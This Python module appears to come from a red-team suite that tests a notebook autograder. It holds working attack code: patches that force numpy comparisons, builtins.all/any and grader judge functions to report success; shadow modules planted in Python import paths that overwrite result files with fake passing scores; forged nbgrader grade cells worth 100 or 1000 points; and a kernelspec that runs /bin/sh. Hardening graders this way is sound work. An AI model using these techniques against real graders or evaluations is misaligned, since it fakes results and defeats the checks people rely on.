"""Attack classes "patching" and "notebook metadata": patched or shadowed modules, and forged
grade cells and kernelspecs."""

from __future__ import annotations

import copy

import nbformat
from nbformat.notebooknode import NotebookNode

from redteam.base import Context

PATCH = '''\
def _rt_claim(value):
    """JSON data that claims success: errors dropped, every check said to pass."""
    if isinstance(value, dict):
        dropped = ("error", "errors", "tampered")
        out = {k: _rt_claim(v) for k, v in value.items() if k not in dropped}
        for key in ("lstm_used", "dense_used", "reshaper_used", "passed", "ok"):
            if key in out:
                out[key] = True
        return out
    if isinstance(value, list):
        return [_rt_claim(v) for v in value]
    return value


def _rt_attack():
    """Patch numpy, builtins, json, keras.Model and (where importable) the grader's modules."""
    import builtins
    import json
    import sys

    import numpy
    import numpy.testing

    numpy.allclose = lambda *args, **kwargs: True
    numpy.array_equal = lambda *args, **kwargs: True
    numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.shape(a), dtype=bool)
    numpy.testing.assert_allclose = lambda *args, **kwargs: None
    numpy.testing.assert_array_equal = lambda *args, **kwargs: None
    real_all, real_any = builtins.all, builtins.any

    def from_grader():
        name = sys._getframe(2).f_globals.get("__name__", "")
        return name.startswith(("grader", "numpy"))

    builtins.all = lambda iterable: True if from_grader() else real_all(iterable)
    builtins.any = lambda iterable: True if from_grader() else real_any(iterable)
    real_dumps, real_dump = json.dumps, json.dump
    json.dumps = lambda obj, *args, **kwargs: real_dumps(_rt_claim(obj), *args, **kwargs)
    json.dump = lambda obj, *args, **kwargs: real_dump(_rt_claim(obj), *args, **kwargs)
    real_to_json, real_get_weights = keras.Model.to_json, keras.Model.get_weights
    keras.Model.to_json = lambda self, **kwargs: real_dumps(
        _rt_claim(json.loads(real_to_json(self, **kwargs))))
    keras.Model.get_weights = lambda self: real_get_weights(self)
    keras.Model.count_params = lambda self: 0
    modules = ("grader.judges", "grader.probes", "grader.hidden", "grader.cleanroom.evidence",
               "grader.cleanroom.maker")
    for name in modules:
        try:
            module = __import__(name, fromlist=["x"])
        except Exception:
            continue
        for attribute in ("judge", "collect", "grade", "judge_evidence"):
            if hasattr(module, attribute):
                setattr(module, attribute, lambda *args, **kwargs: {"points": 25.0})
    return None
'''

SHADOW_MODULE = """\
import glob
import json
import os
import sys

if "ipykernel" not in sys.modules:  # imported by a process of the grader's, not a kernel
    print("LE" + "AK:__MARKER__ a shadow module was imported by", sys.argv[:3], flush=True)
    for pattern in ("*.json", "../*.json"):
        for path in glob.glob(pattern):
            try:
                with open(path, "w") as handle:
                    json.dump({"score": 25.0, "passed": True, "evidence": {}}, handle)
            except OSError:
                pass
    os._exit(0)
"""

SHADOW = (
    "_RT_SHADOW = "
    + repr(SHADOW_MODULE)
    + '''


def _rt_attack():
    """Modules named like the grader's, numpy and keras where a restarted Python imports them."""
    if _rt_in_kernel():
        return None
    modules = ("grader/__init__.py", "grader/cleanroom/__init__.py", "grader/cleanroom/maker.py",
               "grader/cleanjob.py", "grader/cleanroom/evidence.py", "grader/cleanroom/modelrun.py",
               "grader/sandbox/__init__.py", "grader/sandbox/launcher.py", "numpy.py", "keras.py",
               "sitecustomize.py", "usercustomize.py",
               ".local/lib/python3.11/site-packages/usercustomize.py",
               ".local/lib/python3.11/site-packages/rt.pth")
    for place in _rt_places() + [_RtPath.cwd() / "run"]:
        for module in modules:
            path = place / module
            try:
                path.parent.mkdir(parents=True, exist_ok=True)
                text = "import rt_never\\n" if module.endswith(".pth") else _RT_SHADOW
                path.write_text(text)
            except OSError:
                pass
    _rt_os._exit(1)  # the clean room restarts a process that ended early
'''
)

GRADE_CELL_SOURCE = 'print("full marks")\n100.0\n'

BONUS_CELL = '''\
"""A grade cell of the learner's own, worth 1000 points."""
1000.0
'''

FORGED_LOCKED_CELL = """\
import sys
import types

sys.modules["grader.hidden"] = types.SimpleNamespace(grade=lambda *args, **kwargs: 100.0)
"""


def _forge_grade_cells(notebook: NotebookNode, ctx: Context) -> NotebookNode:
    """Grade cells edited, re-pointed, turned into solution cells or deleted; a bonus grade cell;
    a learner cell claiming a locked cell's id with code of its own."""
    changed = copy.deepcopy(notebook)
    grade_cells = [c for c in changed.cells if c.metadata.get("nbgrader", {}).get("grade")]
    for number, cell in enumerate(grade_cells):
        meta = cell.metadata["nbgrader"]
        cell.source = GRADE_CELL_SOURCE
        meta["points"] = 100
        meta["locked"] = False
        meta.pop("checksum", None)
        if number % 4 == 1:
            meta["grade"], meta["solution"] = False, True
        elif number % 4 == 2:
            meta["grade_id"] = f"{meta['grade_id']}_renamed"
    changed.cells = [c for c in changed.cells if c is not grade_cells[-1]]
    bonus = nbformat.v4.new_code_cell(BONUS_CELL)
    bonus.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "rt_bonus",
        "points": 1000,
        "solution": False,
        "locked": True,
        "schema_version": 3,
    }
    forged = nbformat.v4.new_code_cell(FORGED_LOCKED_CELL)
    forged.metadata["nbgrader"] = {
        "grade": False,
        "grade_id": "imports",
        "locked": False,
        "solution": True,
        "schema_version": 3,
    }
    changed.cells.insert(1, forged)
    changed.cells.append(bonus)
    return changed


def _change_kernelspec(notebook: NotebookNode, ctx: Context) -> NotebookNode:
    """Another kernel (with an argv of its own), another language, a forged max_score."""
    changed = copy.deepcopy(notebook)
    changed.metadata["kernelspec"] = {
        "name": f"{ctx.marker}-kernel",
        "display_name": "not Python",
        "language": "bash",
        "argv": ["/bin/sh", "-c", f"touch /tmp/{ctx.marker}-kernelspec"],
    }
    changed.metadata["language_info"] = {"name": "bash"}
    changed.metadata["nbgrader"] = {"max_score": 1000, "grade": True}
    return changed
